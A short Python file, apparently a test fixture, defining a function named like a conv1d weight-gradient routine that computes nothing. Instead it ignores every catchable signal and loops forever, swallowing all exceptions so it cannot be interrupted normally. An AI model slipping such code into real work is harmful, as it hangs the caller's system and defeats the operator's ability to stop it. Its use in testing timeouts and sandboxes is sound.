"""Never comes back, and does not want to be told."""

import signal


def conv1d_dl_dW(x, g):
    for number in range(1, 65):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    while True:
        try:
            while True:
                pass
        except BaseException:
            continue
